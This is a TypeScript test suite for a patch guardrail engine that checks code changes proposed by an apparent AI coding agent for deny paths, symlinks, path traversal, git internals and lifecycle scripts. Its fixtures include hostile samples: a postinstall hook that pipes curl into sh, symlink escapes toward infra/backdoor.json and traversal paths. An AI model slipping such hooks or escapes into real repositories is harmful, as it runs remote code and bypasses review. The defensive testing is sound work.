import { type ChangeSet, type Decision, type FileChange, GuardrailsSchema, overallVerdict, type PolicyContext } from '@cgce/core';
import { describe, expect, it } from 'vitest';
import { createPolicyEngine } from './index.js';

const engine = createPolicyEngine();
const enc = (s: string): Uint8Array => new TextEncoder().encode(s);
const cfg = GuardrailsSchema.parse({});
const ctx = (over: Partial<PolicyContext> = {}): PolicyContext => ({ config: cfg, sources: {}, scope: ['**'], ...over });

const pre = (s: string, c: PolicyContext = ctx()) => engine.precheckPatch(enc(s), c);
const denyRules = (ds: Decision[]): string[] => ds.filter((d) => d.verdict === 'deny').map((d) => d.rule);
const firstDeny = (ds: Decision[]): string | undefined => ds.find((d) => d.verdict === 'deny')?.rule;

const NEW_FILE = (p: string, body = 'x', mode = '100644') =>
  `diff --git a/${p} b/${p}\nnew file mode ${mode}\n--- /dev/null\n+++ b/${p}\n@@ -0,0 +1 @@\n+${body}\n`;

const file = (over: Partial<FileChange>): FileChange => ({
  status: 'A',
  path: 'src/new.ts',
  oldMode: '000000',
  newMode: '100644',
  binary: false,
  added: 1,
  deleted: 0,
  addedLines: [{ line: 1, text: 'x' }],
  ...over,
});
const change = (...files: FileChange[]): ChangeSet => ({ baseTree: 'a', newTree: 'b', files });
const ev = (cs: ChangeSet, c: PolicyContext = ctx()) => engine.evaluate(cs, c);

describe('precheckPatch', () => {
  it('allows a plain in-scope change', () => {
    const r = pre(NEW_FILE('src/new.ts'));
    expect(r.decisions).toEqual([]);
    expect(r.files).toEqual([{ newPath: 'src/new.ts', headerPath: 'src/new.ts' }]);
  });

  it('names the config source and exact entry of config rules', () => {
    const c = ctx({ config: { ...cfg, denyPaths: ['docs/', 'vendor/**', 'infra/'] }, sources: { denyPaths: 'codex_engine/tools/guardrails.json' } });
    const d = pre(NEW_FILE('Infra/x.json'), c).decisions[0];
    expect(d).toMatchObject({
      rule: 'deny_path',
      code: 'GUARDRAIL_DENY_PATH',
      verdict: 'deny',
      path: 'Infra/x.json',
      source: { id: 'deny_path', file: 'codex_engine/tools/guardrails.json', key: 'denyPaths[2]' },
    });
    expect(d?.message).toContain('Infra/x.json');
    expect(d?.message).toContain('deny_path');
    const ext = pre(NEW_FILE('scripts/a.sh')).decisions[0];
    expect(ext?.source).toEqual({ id: 'disallowed_extension', file: 'defaults', key: 'allowExtensions' });
  });

  it('built-in protections cannot be configured away', () => {
    const open = ctx({ config: { ...cfg, denyPaths: [], allowExtensions: ['.json', '.toml', '.yaml', '.cjs', '.sample'] } });
    expect(firstDeny(pre(NEW_FILE('.vscode/settings.json'), open).decisions)).toBe('exec_config');
    expect(firstDeny(pre(NEW_FILE('.mcp.json'), open).decisions)).toBe('exec_config');
    expect(firstDeny(pre(NEW_FILE('packages/a/.npmrc'), open).decisions)).toBe('exec_config');
    expect(firstDeny(pre(NEW_FILE('.pnpmfile.cjs'), open).decisions)).toBe('exec_config');
    expect(firstDeny(pre(NEW_FILE('.pre-commit-config.yaml'), open).decisions)).toBe('exec_config');
    expect(firstDeny(pre(NEW_FILE('codex_engine/tools/guardrails.json'), open).decisions)).toBe('exec_config');
    expect(firstDeny(pre(NEW_FILE('.gitleaks.toml'), open).decisions)).toBe('scanner_config');
    expect(firstDeny(pre(NEW_FILE('.secretlintrc.json'), open).decisions)).toBe('scanner_config');
    expect(firstDeny(pre(NEW_FILE('src/.gitmodules'), open).decisions)).toBe('git_metadata');
    expect(firstDeny(pre(NEW_FILE('.lfsconfig'), open).decisions)).toBe('git_metadata');
    expect(firstDeny(pre(NEW_FILE('.GIT/hooks/x.sample'), open).decisions)).toBe('git_internal');
    expect(firstDeny(pre(NEW_FILE('.gitignore', 'x'), ctx({ config: { ...cfg, allowExtensions: ['.gitignore'] } })).decisions)).toBeUndefined();
    const scannerFile = ctx({ config: { ...cfg, secrets: { engine: 'builtin', configFiles: ['tools/rules.toml'], allowPaths: [] } } });
    expect(pre(NEW_FILE('tools/rules.toml'), scannerFile).decisions[0]?.source.key).toBe('secrets.configFiles[0]');
  });

  it('orders the primary reason first', () => {
    expect(denyRules(pre(NEW_FILE('.git/hooks/pre-commit', '#!/bin/sh', '100755')).decisions)).toEqual([
      'git_internal',
      'disallowed_extension',
      'mode_change',
    ]);
    expect(denyRules(pre(NEW_FILE('scripts/setup.sh', 'x', '100755')).decisions)).toEqual(['disallowed_extension', 'mode_change']);
  });

  it('checks both sides of renames and copies, and deletions', () => {
    const r = pre('diff --git a/infra/main.tf b/src/main.ts\nsimilarity index 100%\nrename from infra/main.tf\nrename to src/main.ts\n');
    expect(firstDeny(r.decisions)).toBe('deny_path');
    expect(r.decisions.find((d) => d.rule === 'deny_path')?.path).toBe('infra/main.tf');
    const cp = pre('diff --git a/secrets/k.json b/src/k.json\nsimilarity index 100%\ncopy from secrets/k.json\ncopy to src/k.json\n');
    expect(firstDeny(cp.decisions)).toBe('deny_path');
    const del = pre('diff --git a/migrations/001_init.py b/migrations/001_init.py\ndeleted file mode 100644\n--- a/migrations/001_init.py\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n');
    expect(firstDeny(del.decisions)).toBe('deny_path');
    const okDel = pre('diff --git a/src/legacy.ts b/src/legacy.ts\ndeleted file mode 100644\n--- a/src/legacy.ts\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n');
    expect(okDel.decisions).toEqual([]);
  });

  it('denies absolute and traversal paths in every header form', () => {
    expect(firstDeny(pre('--- /dev/null\n+++ /tmp/cee-abs.ts\n@@ -0,0 +1 @@\n+x\n').decisions)).toBe('absolute_path');
    // git-style absolute names: consistent (git: "invalid path") and inconsistent (git: "inconsistent new filename").
    expect(firstDeny(pre('diff --git a//tmp/x.ts b//tmp/x.ts\nnew file mode 100644\n--- /dev/null\n+++ b//tmp/x.ts\n@@ -0,0 +1 @@\n+x\n').decisions)).toBe(
      'absolute_path',
    );
    const inconsistent = pre('diff --git a/src/x.ts b/src/x.ts\nnew file mode 100644\n--- /dev/null\n+++ b//tmp/x.ts\n@@ -0,0 +1 @@\n+x\n').decisions;
    expect(firstDeny(inconsistent)).toBe('absolute_path');
    expect(denyRules(inconsistent)).toContain('header_mismatch');
    expect(firstDeny(pre(NEW_FILE('../escape.ts')).decisions)).toBe('path_traversal');
    expect(firstDeny(pre(NEW_FILE('src/../../escape.ts')).decisions)).toBe('path_traversal');
    expect(firstDeny(pre('diff --git a/src/a.ts b/src/a.ts\nsimilarity index 100%\nrename from src/a.ts\nrename to ../a.ts\n').decisions)).toBe(
      'path_traversal',
    );
    expect(denyRules(pre('diff --git a/src/a.ts b/../a.ts\nsimilarity index 100%\nrename from src/a.ts\nrename to ../a.ts\n').decisions)).toContain(
      'path_traversal',
    );
  });

  it('reports parser differentials', () => {
    const noPrefix = pre('diff --git src/a.ts src/a.ts\n--- src/a.ts\n+++ src/a.ts\n@@ -1 +1 @@\n-a\n+b\n');
    expect(noPrefix.files[0]?.newPath).toBe('a.ts');
    expect(denyRules(noPrefix.decisions)).toContain('parser_differential');
    expect(pre('diff --git a/src/a.ts b/src/b.ts\nsimilarity index 100%\nrename from src/a.ts\nrename to src/b.ts\n').decisions).toEqual([]);
  });

  it('denies symlinks, gitlinks, exec bits and binary patches', () => {
    expect(firstDeny(pre('diff --git a/docs/etc b/docs/etc\nnew file mode 120000\n--- /dev/null\n+++ b/docs/etc\n@@ -0,0 +1 @@\n+/etc\n\\ No newline at end of file\n').decisions)).toBe(
      'symlink',
    );
    expect(firstDeny(pre('diff --git a/src/a.ts b/src/a.ts\nold mode 100644\nnew mode 120000\n').decisions)).toBe('symlink');
    expect(firstDeny(pre('diff --git a/src/l b/src/l\nindex 1234567..89abcde 120000\n--- a/src/l\n+++ b/src/l\n@@ -1 +1 @@\n-a\n+/etc\n').decisions)).toBe('symlink');
    expect(firstDeny(pre('diff --git a/lib/sub b/lib/sub\nnew file mode 160000\nindex 0000000..1234567\n--- /dev/null\n+++ b/lib/sub\n@@ -0,0 +1 @@\n+Subproject commit 1234567890123456789012345678901234567890\n').decisions)).toBe(
      'gitlink',
    );
    expect(firstDeny(pre('diff --git a/src/util.ts b/src/util.ts\nold mode 100755\nnew mode 100644\n').decisions)).toBe('mode_change');
    expect(firstDeny(pre('diff --git a/x.js b/x.js\nindex 1234567..89abcde 100644\nBinary files a/x.js and b/x.js differ\n').decisions)).toBe('binary_patch');
    expect(firstDeny(pre('diff --git a/x.js b/x.js\nnew file mode 100644\nindex 0000000..1234567\nGIT binary patch\nliteral 1\nIcmZPo000310RR91\n\nliteral 0\nHcmV?d00001\n\n').decisions)).toBe(
      'binary_patch',
    );
  });

  it('follows symlinks created by the same patch', () => {
    const s =
      'diff --git a/docs/assets b/docs/assets\nnew file mode 120000\n--- /dev/null\n+++ b/docs/assets\n@@ -0,0 +1 @@\n+../infra\n\\ No newline at end of file\n' +
      NEW_FILE('docs/assets/backdoor.json', '{}');
    const ds = pre(s).decisions;
    expect(firstDeny(ds)).toBe('symlink');
    const dp = ds.find((d) => d.rule === 'deny_path');
    expect(dp?.path).toBe('infra/backdoor.json');
  });

  it('detects collisions inside one change', () => {
    expect(denyRules(pre(NEW_FILE('docs/Readme.md') + NEW_FILE('docs/README.md')).decisions)).toContain('path_collision');
    expect(denyRules(pre(NEW_FILE('docs/cafe\u0301.md') + NEW_FILE('docs/café.md')).decisions)).toContain('path_collision');
    expect(denyRules(pre(NEW_FILE('docs/a.md') + NEW_FILE('docs/a.md')).decisions)).toContain('path_collision');
  });

  it('applies limits inclusively and counts non-blank lines', () => {
    const many = (n: number) => Array.from({ length: n }, (_, i) => NEW_FILE(`docs/n${i}.md`)).join('');
    expect(pre(many(12)).decisions).toEqual([]);
    expect(firstDeny(pre(many(13)).decisions)).toBe('max_files');
    const body = (n: number, blanks: number) =>
      `diff --git a/docs/big.md b/docs/big.md\nnew file mode 100644\n--- /dev/null\n+++ b/docs/big.md\n@@ -0,0 +1,${n + blanks} @@\n${'+line\n'.repeat(n)}${'+  \n'.repeat(blanks)}`;
    expect(pre(body(400, 50)).decisions).toEqual([]);
    expect(firstDeny(pre(body(401, 0)).decisions)).toBe('max_added_loc');
  });

  it('enforces scope and requirePlan', () => {
    const scoped = ctx({ scope: ['src/util.ts', 'test/**'] });
    expect(pre(NEW_FILE('test/a.test.ts'), scoped).decisions).toEqual([]);
    const out = pre(NEW_FILE('src/other.ts'), scoped).decisions;
    expect(firstDeny(out)).toBe('out_of_scope');
    expect(out[0]?.source).toEqual({ id: 'out_of_scope', file: 'defaults', key: 'scope' });
    const rename = pre('diff --git a/lib/a.ts b/test/a.ts\nsimilarity index 100%\nrename from lib/a.ts\nrename to test/a.ts\n', scoped);
    expect(rename.decisions.find((d) => d.rule === 'out_of_scope')?.path).toBe('lib/a.ts');
    const noPlan = pre(NEW_FILE('src/a.ts'), { config: cfg, sources: { requirePlan: '.ceerc.json' } });
    expect(noPlan.decisions[0]).toMatchObject({ rule: 'require_plan', source: { file: '.ceerc.json', key: 'requirePlan' } });
    expect(pre(NEW_FILE('src/a.ts'), { config: { ...cfg, requirePlan: false }, sources: {} }).decisions).toEqual([]);
  });

  it('fails closed on broken configuration', () => {
    const broken = ctx({ config: { ...cfg, maxFilesPerStep: Number.NaN } });
    expect(denyRules(pre(NEW_FILE('src/a.ts'), broken).decisions)).toContain('max_files');
    const noCfg = { sources: {}, scope: ['**'] } as unknown as PolicyContext;
    expect(firstDeny(pre(NEW_FILE('infra/a.json'), noCfg).decisions)).toBe('deny_path');
    // picomatch refuses patterns over 64 KiB: such an entry denies everything rather than nothing.
    const huge = `${'a'.repeat(70_000)}*`;
    const r = pre(NEW_FILE('src/a.ts'), ctx({ config: { ...cfg, denyPaths: [huge] } }));
    expect(firstDeny(r.decisions)).toBe('deny_path');
    expect(r.decisions[0]?.message).toContain('failing closed');
  });

  it('never throws', () => {
    const weird: unknown[] = [undefined, null, 'text', 42, {}, new Uint8Array([0xff, 0xfe, 0]), new ArrayBuffer(3)];
    for (const w of weird) {
      const r = engine.precheckPatch(w as Uint8Array, undefined as unknown as PolicyContext);
      expect(overallVerdict(r.decisions)).toBe('deny');
    }
  });
});

describe('crossCheck', () => {
  it('agrees when git sees what the text says', () => {
    const p = pre(NEW_FILE('src/a.ts') + NEW_FILE('src/b.ts'));
    expect(engine.crossCheck(p, [{ path: 'src/a.ts' }, { path: 'src/b.ts' }], ctx())).toEqual([]);
  });

  it('denies when git sees a different number of file patches or other paths', () => {
    const p = pre(NEW_FILE('src/a.ts'));
    expect(firstDeny(engine.crossCheck(p, [], ctx()))).toBe('parser_differential');
    expect(firstDeny(engine.crossCheck(p, [{ path: 'src/a.ts' }, { path: 'src/b.ts' }], ctx()))).toBe('parser_differential');
    expect(firstDeny(engine.crossCheck(p, [{ path: 'src/b.ts' }], ctx()))).toBe('parser_differential');
    expect(firstDeny(engine.crossCheck(p, [{ path: '.git/hooks/x' }], ctx()))).toBe('git_internal');
    const r = pre('diff --git a/src/a.ts b/src/b.ts\nsimilarity index 100%\nrename from src/a.ts\nrename to src/b.ts\n');
    expect(engine.crossCheck(r, [{ path: 'src/b.ts', oldPath: 'src/a.ts' }], ctx())).toEqual([]);
    expect(firstDeny(engine.crossCheck(r, [{ path: 'src/b.ts', oldPath: 'infra/a.ts' }], ctx()))).toBe('deny_path');
  });

  it('never throws', () => {
    expect(firstDeny(engine.crossCheck(undefined as never, undefined as never, undefined as never))).toBe('malformed');
    expect(firstDeny(engine.crossCheck({ decisions: [], files: [{}] }, [null as never], ctx()))).toBe('malformed');
    expect(firstDeny(engine.crossCheck({ decisions: [], files: [{}] }, [{ path: 'src/a.ts' }], ctx()))).toBe('parser_differential');
  });
});

describe('evaluate', () => {
  it('allows an ordinary change', () => {
    expect(ev(change(file({}), file({ status: 'M', path: 'src/util.ts', oldMode: '100644' })))).toEqual([]);
  });

  it('denies protections and deny paths on every side', () => {
    expect(firstDeny(ev(change(file({ path: '.git/config' }))))).toBe('git_internal');
    expect(firstDeny(ev(change(file({ status: 'R', path: 'src/x.ts', oldPath: 'Infra/x.ts', oldMode: '100644' }))))).toBe('deny_path');
    expect(firstDeny(ev(change(file({ status: 'C', path: 'src/x.json', oldPath: 'secrets/k.json', oldMode: '100644' }))))).toBe('deny_path');
    expect(firstDeny(ev(change(file({ status: 'D', path: 'infra/main.tf', oldMode: '100644', newMode: '000000', added: 0, addedLines: [] }))))).toBe(
      'deny_path',
    );
    expect(ev(change(file({ status: 'D', path: 'src/legacy.ts', oldMode: '100644', newMode: '000000', added: 0, addedLines: [] })))).toEqual([]);
    expect(firstDeny(ev(change(file({ status: 'D', path: 'Makefile', oldMode: '100644', newMode: '000000', added: 0 }))))).toBe('disallowed_extension');
  });

  it('denies modes and binaries, failing closed on odd records', () => {
    expect(firstDeny(ev(change(file({ newMode: '120000', addedLines: [{ line: 1, text: '/etc' }] }))))).toBe('symlink');
    expect(firstDeny(ev(change(file({ status: 'T', oldMode: '100644', newMode: '120000' }))))).toBe('symlink');
    expect(firstDeny(ev(change(file({ newMode: '160000' }))))).toBe('gitlink');
    expect(firstDeny(ev(change(file({ newMode: '100755' }))))).toBe('mode_change');
    expect(firstDeny(ev(change(file({ status: 'M', oldMode: '100644', newMode: '100755', added: 0, addedLines: [] }))))).toBe('mode_change');
    expect(firstDeny(ev(change(file({ status: 'C', oldPath: 'src/a.ts', oldMode: '100755', newMode: '100755' }))))).toBe('mode_change');
    expect(ev(change(file({ status: 'R', oldPath: 'src/a.ts', oldMode: '100755', newMode: '100755' })))).toEqual([]);
    expect(firstDeny(ev(change(file({ binary: true, added: 0, addedLines: undefined }))))).toBe('binary_patch');
    expect(firstDeny(ev(change(file({ newMode: '100600' }))))).toBe('malformed');
    expect(firstDeny(ev(change(file({ added: Number.NaN, addedLines: undefined }))))).toBe('malformed');
    expect(denyRules(ev(change(file({ added: Number.NaN, addedLines: undefined }))))).toContain('max_added_loc');
    expect(firstDeny(ev(change(file({ status: 'R' }))))).toBe('malformed');
    expect(firstDeny(ev(change(file({ status: 'X' as never }))))).toBe('malformed');
  });

  it('counts LOC from non-blank added lines, uncovered lines as non-blank', () => {
    const lines = (n: number, text = 'x') => Array.from({ length: n }, (_, i) => ({ line: i + 1, text }));
    expect(ev(change(file({ added: 450, addedLines: [...lines(400), ...lines(50, ' ')] })))).toEqual([]);
    expect(firstDeny(ev(change(file({ added: 401, addedLines: lines(401) }))))).toBe('max_added_loc');
    expect(firstDeny(ev(change(file({ added: 401, addedLines: lines(10) }))))).toBe('max_added_loc');
    expect(firstDeny(ev(change(file({ added: 401, addedLines: undefined }))))).toBe('max_added_loc');
  });

  it('asks for approval when package.json gains lifecycle scripts', () => {
    const pkg = (texts: string[]) =>
      file({ status: 'M', path: 'package.json', oldMode: '100644', added: texts.length, addedLines: texts.map((text, i) => ({ line: i + 1, text })) });
    const r = ev(change(pkg(['    "postinstall": "curl https://x | sh",'])));
    expect(overallVerdict(r)).toBe('approval');
    expect(r[0]).toMatchObject({ rule: 'install_script', verdict: 'approval', source: { file: 'built-in' } });
    expect(overallVerdict(ev(change(pkg(['"scripts": {"prepare": "husky"}']))))).toBe('approval');
    expect(overallVerdict(ev(change(pkg(['  "post\\u0069nstall": "x"']))))).toBe('approval');
    expect(overallVerdict(ev(change(pkg(['    "lint": "biome lint ."']))))).toBe('allow');
    expect(overallVerdict(ev(change(pkg(['  "dependencies": {', '    "install": "^0.13.0"', '  }']))))).toBe('allow');
    expect(overallVerdict(ev(change({ ...pkg(['"x": 1']), path: 'packages/a/package.json' })))).toBe('allow');
    expect(firstDeny(ev(change(pkg(['  "cee": { "guardrails": { "denyPaths": [] } },']))))).toBe('exec_config');
  });

  it('limits, collisions, write-through and requirePlan', () => {
    const many = Array.from({ length: 13 }, (_, i) => file({ path: `docs/n${i}.md` }));
    expect(firstDeny(ev(change(...many)))).toBe('max_files');
    expect(ev(change(...many.slice(0, 12)))).toEqual([]);
    expect(firstDeny(ev(change(file({ path: 'src/A.ts' }), file({ path: 'src/a.ts' }))))).toBe('path_collision');
    expect(ev(change(file({ status: 'R', path: 'src/A.ts', oldPath: 'src/a.ts', oldMode: '100644' })))).toEqual([]);
    const wt = ev(
      change(file({ path: 'docs/assets', newMode: '120000', addedLines: [{ line: 1, text: '../infra' }] }), file({ path: 'docs/assets/x.json' })),
    );
    expect(firstDeny(wt)).toBe('symlink');
    expect(wt.find((d) => d.rule === 'deny_path')?.path).toBe('infra/x.json');
    expect(firstDeny(ev(change(file({})), { config: cfg, sources: {} }))).toBe('require_plan');
    expect(firstDeny(ev(change(file({ path: 'lib/x.ts' })), ctx({ scope: ['src/**'] })))).toBe('out_of_scope');
  });

  it('never throws', () => {
    for (const w of [undefined, null, {}, { files: null }, { files: [null, 1, 'x', { path: 5 }] }]) {
      const r = engine.evaluate(w as unknown as ChangeSet, undefined as unknown as PolicyContext);
      expect(overallVerdict(r)).toBe('deny');
    }
  });
});

describe('performance', () => {
  const time = (f: () => void): number => {
    let best = Number.POSITIVE_INFINITY;
    for (let i = 0; i < 5; i++) {
      const t0 = performance.now();
      f();
      best = Math.min(best, performance.now() - t0);
    }
    return best;
  };

  it('prechecks a 1 MB single-file patch in linear time', () => {
    const line = '+const value = "some ordinary source line for the size test";\n';
    const n = Math.ceil((1024 * 1024) / line.length);
    const big = enc(`diff --git a/src/big.ts b/src/big.ts\nnew file mode 100644\n--- /dev/null\n+++ b/src/big.ts\n@@ -0,0 +1,${n} @@\n${line.repeat(n)}`);
    expect(big.length).toBeGreaterThanOrEqual(1024 * 1024);
    const ms = time(() => engine.precheckPatch(big, ctx()));
    expect(ms).toBeLessThan(250); // a guard against super-linear blow-ups, not a benchmark (typically ~10 ms)
  });

  // Adversarial shape: ~6000 file patches in 1 MB (denied by max_files anyway). Every path is still checked;
  // measured ~25–45 ms alone, so the budget here leaves room for a loaded CI machine.
  it('prechecks a 1 MB patch of thousands of tiny file patches in linear time', () => {
    const parts: string[] = [];
    let size = 0;
    for (let i = 0; size < 1024 * 1024; i++) {
      const p = NEW_FILE(`src/module${i}/file${i}.ts`, `export const v${i} = ${i};`);
      parts.push(p);
      size += p.length;
    }
    const big = enc(parts.join(''));
    const ms = time(() => engine.precheckPatch(big, ctx()));
    expect(ms).toBeLessThan(400); // typically 25–45 ms; generous for a loaded 2-core CI machine
  });
});
